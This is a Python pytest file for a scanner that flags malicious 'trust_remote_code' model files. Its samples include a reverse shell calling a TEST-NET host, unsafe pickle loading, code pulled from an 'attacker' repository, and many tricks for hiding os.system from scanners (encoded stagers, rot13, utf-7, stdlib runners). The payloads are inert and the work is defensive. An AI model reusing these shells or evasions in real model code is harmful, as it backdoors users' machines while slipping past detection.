"""Regressions for remote code (trust_remote_code): one test per public report or evasion.

Payloads are inert (``echo pwned``, TEST-NET addresses) and never run: the analyzer only
parses them.
"""

from __future__ import annotations

import base64
import codecs
import textwrap
import zlib

from modelcustoms.core import Finding, Severity
from modelcustoms.engines.scan.remote_code import RemoteCodeAnalyzer


def _findings(scan_files, source: str | bytes, name: str = "modeling_evil.py") -> list[Finding]:
    data = source if isinstance(source, bytes) else source.encode()
    result = scan_files({name: data}, analyzers=[RemoteCodeAnalyzer()])
    return list(result.run.findings)


def _worst(findings: list[Finding], rule: str) -> Severity | None:
    sev = [f.severity for f in findings if f.rule_id == rule]
    return max(sev, key=lambda s: s.rank) if sev else None


def _src(code: str) -> str:
    return "# coding=utf-8\n" + textwrap.dedent(code)


def test_jfrog_2024_reverse_shell_moved_into_remote_code(scan_files):
    # JFrog, "Data Scientists Targeted by Malicious Hugging Face ML Models with Silent
    # Backdoor" (Feb 2024): the baller423 payload opened a socket, dup2'ed it onto stdio and
    # ran pty.spawn("/bin/sh"). It shipped in a pickle; the same code in a modeling file runs
    # on from_pretrained(..., trust_remote_code=True).
    # https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/
    code = """
        import os, pty, socket
        RHOST, RPORT = "192.0.2.1", 4242
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((RHOST, RPORT))
        [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
        pty.spawn("/bin/sh")
    """
    findings = _findings(scan_files, _src(code))
    assert _worst(findings, "remotecode.process") is Severity.CRITICAL
    assert _worst(findings, "remotecode.network") is Severity.HIGH


def test_cve_2023_7018_pickle_load_of_a_repository_file(scan_files):
    # CVE-2023-7018: TransfoXLTokenizer unpickled a vocabulary file from the model
    # repository. Tokenization code that pickle.load()s repository files is the same hole.
    # https://nvd.nist.gov/vuln/detail/CVE-2023-7018
    code = """
        import pickle
        class EvilTokenizer:
            def __init__(self, pretrained_vocab_file=None):
                with open(pretrained_vocab_file, "rb") as f:
                    vocab_dict = pickle.load(f)
    """
    findings = _findings(scan_files, _src(code), "tokenization_evil.py")
    assert _worst(findings, "remotecode.unsafe-deserialization") is Severity.HIGH


def test_cve_2023_6730_index_fetched_from_another_repo_and_unpickled(scan_files):
    # CVE-2023-6730: RagRetriever downloaded an index named by the configuration (possibly
    # from another repository) and unpickled it.
    # https://nvd.nist.gov/vuln/detail/CVE-2023-6730
    code = """
        import pickle
        from transformers.utils import cached_file
        def load_index(config):
            path = cached_file(config.index_repo, config.index_name)
            with open(path, "rb") as f:
                return pickle.load(f)
    """
    findings = _findings(scan_files, _src(code), "retrieval_evil.py")
    assert _worst(findings, "remotecode.unsafe-deserialization") is Severity.HIGH


def test_ghsa_8fr4_code_of_another_repository_is_pulled_in(scan_files):
    # GHSA-8fr4-5q9j-m8gm (CVE-2025-66448): an auto_map entry naming another repository made
    # vLLM fetch and run that repository's code through get_class_from_dynamic_module. The
    # same call in a repository's own Python pulls in code this scan never saw.
    # https://github.com/advisories/GHSA-8fr4-5q9j-m8gm
    code = """
        from transformers.dynamic_module_utils import get_class_from_dynamic_module
        Backbone = get_class_from_dynamic_module("attacker/backbone--modeling.Backbone", ".")
    """
    findings = _findings(scan_files, _src(code), "configuration_evil.py")
    assert _worst(findings, "remotecode.network") is Severity.HIGH


def test_hardcoded_trust_remote_code_for_a_sub_model(scan_files):
    # vLLM PR #38319 describes model code that hard-coded trust_remote_code=True when loading
    # a sub-component, overriding the user's opt-out. In remote code it chains trust to a
    # repository named in the file.
    # https://github.com/vllm-project/vllm/pull/38319
    code = """
        from transformers import AutoModel
        vision = AutoModel.from_pretrained("attacker/vision-tower", trust_remote_code=True)
    """
    findings = _findings(scan_files, _src(code))
    assert _worst(findings, "remotecode.network") is Severity.HIGH


def test_evasion_import_alias_chain(scan_files):
    # Evasion: hide os.system behind an alias chain and a rename in a from-import.
    code = """
        import os as _o
        from subprocess import getoutput as _g
        _x = _o
        _y = _x.system
        _y("echo pwned")
        _g("echo pwned")
    """
    findings = _findings(scan_files, _src(code))
    lines = {f.evidence[0].location.line for f in findings if f.rule_id == "remotecode.process"}
    assert {7, 8} <= lines


def test_evasion_string_built_import_and_getattr(scan_files):
    # Evasion: module and attribute names built from pieces so no "os.system" text exists.
    code = """
        m = __import__("".join(["o", "s"]))
        getattr(m, "sy" + "stem")("echo pwned")
        b = __builtins__
        b.__dict__["__imp" + "ort__"]("subprocess").Popen(["echo", "pwned"])
    """
    findings = _findings(scan_files, _src(code))
    lines = {f.evidence[0].location.line for f in findings if f.rule_id == "remotecode.process"}
    assert {4, 6} <= lines


def test_evasion_exec_of_compressed_encoded_payload(scan_files):
    # Evasion: the common stager exec(zlib.decompress(base64.b64decode(...))).
    inner = b"import socket,os\nos.system('echo pwned')\n"
    blob = base64.b64encode(zlib.compress(inner)).decode()
    code = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"
    findings = _findings(scan_files, _src(code))
    assert _worst(findings, "remotecode.dynamic-code") is Severity.CRITICAL
    assert _worst(findings, "remotecode.encoded-payload") is Severity.CRITICAL
    assert _worst(findings, "remotecode.process") is Severity.CRITICAL


def test_evasion_rot13_payload(scan_files):
    # Evasion: codecs.decode(..., "rot13") hides keywords from grep-based scanners.
    hidden = codecs.encode("import os; os.system('echo pwned')", "rot13")
    code = f"import codecs\nexec(codecs.decode({hidden!r}, 'rot13'))\n"
    findings = _findings(scan_files, _src(code))
    assert _worst(findings, "remotecode.process") is Severity.CRITICAL


def test_evasion_utf7_source_encoding(scan_files):
    # Evasion: a PEP 263 coding cookie (utf-7) makes the bytes on disk differ from the code
    # Python runs; text scanners see "+AG8AcwAu..." instead of os.system.
    # https://peps.python.org/pep-0263/
    hidden = "__import__('os').system('echo pwned')".encode("utf-7")
    source = b"# -*- coding: utf-7 -*-\n" + hidden + b"\n"
    findings = _findings(scan_files, source)
    assert _worst(findings, "remotecode.process") is Severity.CRITICAL


def test_evasion_unparsable_for_older_parsers(scan_files):
    # Evasion: syntax newer than the scanner's Python (PEP 695 here) must not read as clean.
    source = _src("type Alias = list[int]\nimport os\nos.system('echo pwned')\n")
    (f,) = _findings(scan_files, source)
    assert (f.rule_id, f.severity) == ("remotecode.unparsable", Severity.HIGH)


# -- Adversarial review: stdlib entry points that run code, and module namespace access ----------
# Each sample was a modeling file the analyzer reported nothing for. The payload is built here
# so no file in the repository spells it out.

_CMD = "echo " + "pwned"
_PAYLOAD = f"__import__('os').system({_CMD!r})"
DYNAMIC, PROCESS = "remotecode.dynamic-code", "remotecode.process"


def _runs_payload(scan_files, code: str) -> None:
    """The entry point is critical dynamic code and the hidden os.system is reported."""
    findings = _findings(scan_files, _src(code))
    assert _worst(findings, DYNAMIC) is Severity.CRITICAL, findings
    assert _worst(findings, PROCESS) is Severity.CRITICAL, findings


def test_evasion_timeit_runs_a_statement(scan_files):
    _runs_payload(scan_files, f"import timeit\ntimeit.timeit({_PAYLOAD!r}, number=1)\n")


def test_evasion_cprofile_run(scan_files):
    _runs_payload(scan_files, f"import cProfile\ncProfile.run({_PAYLOAD!r})\n")


def test_evasion_profile_run(scan_files):
    _runs_payload(scan_files, f"import profile as p\np.run({_PAYLOAD!r})\n")


def test_evasion_trace_runctx_on_an_instance(scan_files):
    code = f"import trace\nt = trace.Trace(count=0, trace=0)\nt.runctx({_PAYLOAD!r}, {{}}, {{}})\n"
    _runs_payload(scan_files, code)


def test_evasion_interactive_interpreter_runsource(scan_files):
    code = f"import code\ncode.InteractiveInterpreter().runsource({_PAYLOAD!r})\n"
    _runs_payload(scan_files, code)


def test_evasion_code_runner_with_runtime_source_is_high(scan_files):
    findings = _findings(scan_files, _src("import cProfile\ncProfile.run(open(p).read())\n"))
    assert _worst(findings, DYNAMIC) is Severity.HIGH


def test_evasion_pydoc_pipepager_runs_a_shell(scan_files):
    code = f"import pydoc\npydoc.pipepager('x', {_CMD!r})\n"
    assert _worst(_findings(scan_files, _src(code)), PROCESS) is Severity.CRITICAL


def test_evasion_pty_spawn_renamed(scan_files):
    code = "from pty import spawn as _s\n_s(['/bin/sh', '-c', " + repr(_CMD) + "])\n"
    assert _worst(_findings(scan_files, _src(code)), PROCESS) is Severity.CRITICAL


def test_evasion_runpy_run_path_and_run_module(scan_files):
    code = (
        "import runpy\nrunpy.run_path('/tmp/x.py')\nfrom runpy import run_module\nrun_module('m')\n"
    )
    findings = _findings(scan_files, _src(code))
    assert {f.evidence[0].location.line for f in findings if f.rule_id == DYNAMIC} >= {3, 5}


def test_evasion_spec_from_file_location_and_exec_module(scan_files):
    code = """
        import importlib.util
        spec = importlib.util.spec_from_file_location("m", "/tmp/x.py")
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
    """
    assert _worst(_findings(scan_files, _src(code)), DYNAMIC) is Severity.HIGH


def test_evasion_operator_methodcaller(scan_files):
    code = f"import operator, os\noperator.methodcaller('sys' + 'tem', {_CMD!r})(os)\n"
    findings = _findings(scan_files, _src(code))
    assert _worst(findings, PROCESS) is Severity.CRITICAL
    assert _worst(findings, DYNAMIC) is Severity.HIGH


def test_evasion_operator_attrgetter_with_computed_name(scan_files):
    code = f"import operator, os\noperator.attrgetter(name)(os)({_CMD!r})\n"
    assert _worst(_findings(scan_files, _src(code)), DYNAMIC) is Severity.HIGH


def test_evasion_functools_reduce_getattr(scan_files):
    code = f"import functools, os\nfunctools.reduce(getattr, ['system'], os)({_CMD!r})\n"
    findings = _findings(scan_files, _src(code))
    assert _worst(findings, PROCESS) is Severity.CRITICAL
    assert _worst(findings, DYNAMIC) is Severity.HIGH


def test_evasion_module_dict_get(scan_files):
    code = f"import os\nd = os.__dict__\nd.get('po' + 'pen')({_CMD!r})\n"
    findings = _findings(scan_files, _src(code))
    assert _worst(findings, PROCESS) is Severity.CRITICAL
    assert _worst(findings, DYNAMIC) is Severity.HIGH


def test_evasion_vars_of_os_iterated(scan_files):
    code = f"""
        import os
        for k, v in vars(os).items():
            if k == "sys" + "tem":
                v({_CMD!r})
    """
    assert _worst(_findings(scan_files, _src(code)), DYNAMIC) is Severity.HIGH


def test_evasion_module_dict_iterated(scan_files):
    code = "import os\nfns = [os.__dict__[k] for k in os.__dict__ if k.startswith('sy')]\n"
    assert _worst(_findings(scan_files, _src(code)), DYNAMIC) is Severity.HIGH


def test_evasion_getattr_of_os_with_computed_name(scan_files):
    code = f"import os\nname = input()\ngetattr(os, name)({_CMD!r})\n"
    assert _worst(_findings(scan_files, _src(code)), DYNAMIC) is Severity.HIGH


def test_evasion_sys_modules_dict_subscripts(scan_files):
    code = f"import sys\nsys.modules['o' + 's'].__dict__['sys' + 'tem']({_CMD!r})\n"
    findings = _findings(scan_files, _src(code))
    assert _worst(findings, PROCESS) is Severity.CRITICAL
    assert _worst(findings, DYNAMIC) is Severity.HIGH


def test_evasion_sys_modules_with_computed_name(scan_files):
    code = f"import sys\nm = sys.modules[name]\ngetattr(m, attr)({_CMD!r})\n"
    assert _worst(_findings(scan_files, _src(code)), DYNAMIC) is Severity.HIGH


def test_evasion_builtins_dict_exec(scan_files):
    code = f"__builtins__.__dict__['ex' + 'ec']({_PAYLOAD!r})\n"
    findings = _findings(scan_files, _src(code))
    assert _worst(findings, DYNAMIC) is Severity.HIGH
    assert _worst(findings, PROCESS) is Severity.CRITICAL


def test_evasion_globals_builtins(scan_files):
    code = f"g = globals()['__builtins__']\ng[name]({_PAYLOAD!r})\n"
    assert _worst(_findings(scan_files, _src(code)), DYNAMIC) is Severity.HIGH


def test_evasion_lambda_over_builtins_namespace(scan_files):
    b = "__builtins__"
    code = (
        f"(lambda g: g['exe' 'c'])({b} if isinstance({b}, dict) else {b}.__dict__)({_PAYLOAD!r})\n"
    )
    assert _worst(_findings(scan_files, _src(code)), PROCESS) is Severity.CRITICAL


def test_evasion_module_name_from_char_codes(scan_files):
    codes = [ord(c) for c in "os"]
    code = f"import importlib\nm = importlib.import_module(''.join(map(chr, {codes})))\n"
    code += f"m.system({_CMD!r})\n"
    assert _worst(_findings(scan_files, _src(code)), PROCESS) is Severity.CRITICAL
